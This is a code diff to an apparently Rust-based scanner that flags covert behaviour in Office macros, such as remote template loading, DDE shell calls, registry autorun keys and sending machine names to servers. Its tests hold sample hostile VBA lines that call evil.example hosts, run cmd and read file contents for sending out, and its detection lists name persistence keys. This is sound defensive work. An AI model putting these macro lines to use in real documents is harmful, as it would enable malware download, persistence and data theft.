@@ -1,31 +1,88 @@
-//! What a macro opens without a person's doing: an object that lies in the document, a locked document whose password
-//! it knows, a program behind a link, a conversation with another program (DDE).
+//! What a macro reaches for where no process is started by name: objects that lie in the document, locked documents
+//! whose password it knows, documents and style sheets on other machines, keys by which Windows starts programs, the
+//! keyboard, a conversation with another program (DDE), and what it sends away.
 
 use super::fold::Folded;
 use super::lexer::{Line, Token};
-use super::{Collected, names_program, said_on, words};
+use super::{Collected, names_program, plain, said_on, words};
 use crate::artifact::Sign;
 
-/// What is opened.
+/// What is opened, started or sent in a roundabout way.
 pub(super) fn opening(lines: &[Line], texts: &[Folded], signs: &mut Collected) {
+    let module = Module::of(lines, texts);
     for line in lines {
+        let said = said_on(line.number, texts);
         for (at, token) in line.tokens.iter().enumerate() {
             let Token::Word(word) = token else { continue };
-            let after = || line.tokens.get(at + 1..).unwrap_or_default();
-            match word.as_str() {
-                "doverb" => signs.add_line(Sign::OpensObject, line),
-                "oleformat" if opens_member(after()) => signs.add_line(Sign::OpensObject, line),
-                "passworddocument" if gives_text(after()) => signs.add_line(Sign::OpensObject, line),
-                "followhyperlink" if leads_to_program(&said_on(line.number, texts)) => {
-                    signs.add_line(Sign::Download, line);
+            for (_, sign, is_so) in WAYS.iter().filter(|(known, _, _)| known == word) {
+                let after = line.tokens.get(at + 1..).unwrap_or_default();
+                if is_so(&Place { line, after, said: &said, module: &module }) {
+                    signs.add_line(*sign, line);
                 }
-                "ddeinitiate" if talks_to_shell(&said_on(line.number, texts)) => {
-                    signs.add_line(Sign::ProcessStart, line);
-                }
-                _ => {}
             }
         }
     }
+}
+
+/// A word and what is known of where it stands.
+struct Place<'a> {
+    line: &'a Line,
+    after: &'a [Token],
+    /// The texts of the line, in lower case.
+    said: &'a str,
+    module: &'a Module,
+}
+
+/// What the module does elsewhere.
+struct Module {
+    has_script_control: bool,
+    transforms: bool,
+    copies_own_file: bool,
+    reads_files: bool,
+}
+
+impl Module {
+    fn of(lines: &[Line], texts: &[Folded]) -> Self {
+        let has = |words: &[&str]| lines.iter().any(|line| line_has(line, words));
+        let copies = |line: &Line| {
+            line_has(line, &["filecopy", "copyfile"])
+                && line_has(line, &["activedocument", "thisdocument", "activeworkbook", "thisworkbook"])
+        };
+        Self {
+            has_script_control: texts.iter().any(|folded| plain(&folded.text).contains("scriptcontrol")),
+            transforms: has(&["transformnode", "transformnodetoobject"]),
+            copies_own_file: lines.iter().any(copies),
+            reads_files: has(&["loadfromfile"]),
+        }
+    }
+}
+
+/// A word, what it shows, and when.
+type Way = (&'static str, Sign, fn(&Place) -> bool);
+
+const WAYS: &[Way] = &[
+    ("doverb", Sign::OpensObject, |_| true),
+    ("oleformat", Sign::OpensObject, |place| opens_member(place.after)),
+    ("passworddocument", Sign::OpensObject, |place| gives_text(place.after)),
+    // The document is a ZIP: a copy of it is unpacked.
+    ("copyhere", Sign::OpensObject, |place| place.module.copies_own_file),
+    ("followhyperlink", Sign::Download, |place| leads_to_program(place.said)),
+    ("open", Sign::Download, |place| is_far_document(place.said) && opens_documents(place.line)),
+    ("insertfile", Sign::Download, |place| is_far_document(place.said)),
+    ("attachedtemplate", Sign::Download, |place| is_far_document(place.said)),
+    // A style sheet may hold a script (MSXML: msxsl:script).
+    ("load", Sign::ProcessStart, |place| place.module.transforms && place.said.contains("://")),
+    ("ddeinitiate", Sign::ProcessStart, |place| talks_to_shell(place.said)),
+    ("sendkeys", Sign::ProcessStart, |place| names_interpreter(place.said)),
+    ("regwrite", Sign::ProcessStart, |place| is_starting_key(place.said)),
+    ("registerxll", Sign::ProcessStart, |place| is_dropping_place(place.said)),
+    ("eval", Sign::ProcessStart, |place| place.module.has_script_control && is_computed(place.after)),
+    ("executeexcel4macro", Sign::ProcessStart, |place| is_cell(place.after)),
+    ("send", Sign::SendsOut, |place| sends_away(place)),
+];
+
+fn line_has(line: &Line, words: &[&str]) -> bool {
+    line.tokens.iter().any(|token| matches!(token, Token::Word(word) if words.contains(&word.as_str())))
 }
 
 /// `OLEFormat.Open`, `OLEFormat.Object.Verb`: a person sees nothing being opened.
@@ -47,17 +104,94 @@ fn leads_to_program(said: &str) -> bool {
     const PACKED: &[&str] =
         &[".zip", ".7z", ".rar", ".iso", ".img", ".vhd", ".cab", ".msix", ".appinstaller"];
     let path = said.split(['?', '#']).next().unwrap_or_default().trim_end();
-    let far = said.contains("://") || said.contains("\\\\");
-    far && (names_program(path) || PACKED.iter().any(|ending| path.ends_with(ending)))
+    is_far(said)
+        && (names_program(path.rsplit("://").next().unwrap_or(path))
+            || PACKED.iter().any(|ending| path.ends_with(ending)))
+}
+
+fn is_far(said: &str) -> bool {
+    said.contains("http://") || said.contains("https://") || said.contains("\\\\")
+}
+
+/// `Documents.Open`, `Workbooks.Open`, `Presentations.Open`.
+fn opens_documents(line: &Line) -> bool {
+    line_has(line, &["documents", "workbooks", "presentations"])
+}
+
+/// A document that may carry macros, on a web server or on a machine named by its number. What offices keep on
+/// SharePoint is theirs.
+fn is_far_document(said: &str) -> bool {
+    const CARRIERS: &[&str] = &[
+        ".doc", ".docm", ".dot", ".dotm", ".xls", ".xlsm", ".xlsb", ".xla", ".xlam", ".xlt", ".xltm", ".ppt",
+        ".pptm", ".ppam", ".rtf", ".hta", ".mht",
+    ];
+    let path = said.split(['?', '#']).next().unwrap_or_default().trim_end();
+    let web = said.contains("http://") || said.contains("https://") && !said.contains(".sharepoint.com/");
+    let share = said.split_once("\\\\").is_some_and(|(_, host)| is_number(host));
+    (web || share) && CARRIERS.iter().any(|ending| path.ends_with(ending))
+}
+
+/// Whether a host is written as four numbers.
+fn is_number(host: &str) -> bool {
+    let host: String = host.chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
+    host.parse::<std::net::Ipv4Addr>().is_ok()
 }
 
 /// Whether a conversation is begun with what starts programs: an interpreter, or the shell itself.
 fn talks_to_shell(said: &str) -> bool {
     const SHELLS: &[&str] = &["cmd", "systray", "progman", "powershell", "mshta", "explorer"];
-    let interpreter =
-        || words::texts().any(|entry| entry.sign == Sign::Interpreter && said.contains(entry.word));
-    SHELLS.iter().any(|shell| said.split(|c: char| !c.is_alphanumeric()).any(|word| word == *shell))
-        || interpreter()
+    let word = |shell: &str| said.split(|c: char| !c.is_alphanumeric()).any(|word| word == shell);
+    SHELLS.iter().any(|shell| word(shell)) || names_interpreter(said)
+}
+
+fn names_interpreter(said: &str) -> bool {
+    words::texts().any(|entry| entry.sign == Sign::Interpreter && said.contains(entry.word))
+}
+
+/// Keys of the registry by which Windows starts a program or loads a library.
+fn is_starting_key(said: &str) -> bool {
+    const KEYS: &[&str] = &[
+        "\\shell\\open\\command",
+        "\\inprocserver32",
+        "\\localserver32",
+        "image file execution options",
+        "\\winlogon",
+        "\\windows\\load",
+        "\\windows\\run",
+        "userinitmprlogonscript",
+        "\\silentprocessexit",
+        "\\command processor\\autorun",
+        "\\office test\\special\\perf",
+        "\\appinit_dlls",
+        "\\explorer\\shell folders\\startup",
+    ];
+    KEYS.iter().any(|key| said.contains(key))
+}
+
+/// Folders into which a dropper may write.
+fn is_dropping_place(said: &str) -> bool {
+    ["temp", "tmp", "appdata", "\\public\\", "programdata"].iter().any(|place| said.contains(place))
+}
+
+/// Whether an argument is more than a literal.
+fn is_computed(after: &[Token]) -> bool {
+    after.iter().any(|token| matches!(token, Token::Word(_)))
+}
+
+/// Whether the argument is what a cell says. Values of closed workbooks are read with a reference put together.
+fn is_cell(after: &[Token]) -> bool {
+    const CELLS: &[&str] = &["range", "cells", "sheets", "worksheets", "activecell", "activesheet"];
+    let first = after.iter().find(|token| !token.is_mark('('));
+    let joins = after.iter().any(|token| token.is_mark('&'));
+    matches!(first, Some(Token::Word(word)) if CELLS.contains(&word.as_str())) && !joins
+}
+
+/// What names the machine or its user goes to a server, or a file that was read does.
+fn sends_away(place: &Place) -> bool {
+    const NAMES: &[&str] = &["computername", "username", "userdomain", "userprofile", "userdnsdomain"];
+    let told = NAMES.iter().any(|name| place.said.contains(name))
+        || line_has(place.line, &["userdomain", "computername"]);
+    told || place.module.reads_files && line_has(place.line, &["read"])
 }
 
 #[cfg(test)]
@@ -76,28 +210,54 @@ mod tests {
     }
 
     #[test]
-    fn what_opens_unseen_is_told() {
+    fn roundabout_ways_are_told() {
         for (source, want) in [
             ("ActiveDocument.InlineShapes(1).OLEFormat.DoVerb 0", Sign::OpensObject),
             ("s.OLEFormat.Open", Sign::OpensObject),
             ("Documents.Open FileName:=f, PasswordDocument:=\"x1\"", Sign::OpensObject),
+            ("FileCopy ActiveDocument.FullName, p\ns.Namespace(q).CopyHere i", Sign::OpensObject),
             ("ThisDocument.FollowHyperlink \"http://files.evil.example/a.exe\"", Sign::Download),
             ("FollowHyperlink \"https://files.evil.example/a.zip?id=3\", , True", Sign::Download),
+            ("Workbooks.Open \"https://c.evil.example/b.xlsm\"", Sign::Download),
+            ("Documents.Open \"\\\\198.51.100.7\\s\\n.doc\"", Sign::Download),
+            ("Selection.InsertFile \"http://t.evil.example/n.docm\"", Sign::Download),
+            ("ActiveDocument.AttachedTemplate = \"http://t.evil.example/n.dotm\"", Sign::Download),
+            ("x.Load \"http://x.evil.example/a.xsl\"\nx.transformNode x", Sign::ProcessStart),
             ("c = DDEInitiate(\"Shell\", \"SysTray\")", Sign::ProcessStart),
             ("x.DDEInitiate \"cmd\", \"/c echo tenpu-test\"", Sign::ProcessStart),
+            ("SendKeys \"cmd /c echo tenpu-test{ENTER}\"", Sign::ProcessStart),
+            ("w.RegWrite \"HKCU\\Software\\Classes\\a\\shell\\open\\command\\\", p", Sign::ProcessStart),
+            ("Application.RegisterXLL Environ(\"TEMP\") & \"\\b.xll\"", Sign::ProcessStart),
+            ("Set c = CreateObject(\"ScriptControl\")\nc.Eval t", Sign::ProcessStart),
+            ("ExecuteExcel4Macro Range(\"A1\").Value", Sign::ProcessStart),
+            ("h.send Environ(\"COMPUTERNAME\") & x", Sign::SendsOut),
+            ("s.LoadFromFile p\nh.Send s.Read", Sign::SendsOut),
         ] {
             assert!(signs(source).contains(&want), "{source}");
         }
     }
 
     #[test]
-    fn what_people_see_is_not() {
+    fn what_offices_do_is_not() {
         for source in [
             "ActiveSheet.OLEObjects(\"Box\").Object.Value = True",
             "Documents.Open FileName:=f, PasswordDocument:=\"\"",
             "ThisWorkbook.FollowHyperlink \"https://www.city.example/kitei.pdf\"",
             "ThisWorkbook.FollowHyperlink ThisWorkbook.Path & \"\\manual.exe\"",
             "c = DDEInitiate(\"Excel\", \"Book1.xls\")",
+            "Workbooks.Open \"https://city.sharepoint.com/sites/a/kyuyo.xlsm\"",
+            "Workbooks.Open \"\\\\server1\\share\\kyuyo.xlsm\"",
+            "Workbooks.Open \"https://stat.example/rates.csv\"",
+            "p = w.RegRead(\"HKCR\\htmlfile\\shell\\open\\command\\\")",
+            "s.Namespace(q).CopyHere f",
+            "SendKeys \"{ESC}\"",
+            "x.Load ThisWorkbook.Path & \"\\a.xsl\"\nx.transformNode x",
+            "Application.RegisterXLL ThisWorkbook.Path & \"\\calc.xll\"",
+            "v = ExecuteExcel4Macro(\"GET.DOCUMENT(50)\")",
+            "v = ExecuteExcel4Macro(\"'\" & p & \"[\" & f & \"]Sheet1'!\" & Range(r).Address(, , xlR1C1))",
+            "h.send",
+            "h.send body",
+            "m.Send",
         ] {
             assert_eq!(signs(source), [], "{source}");
         }
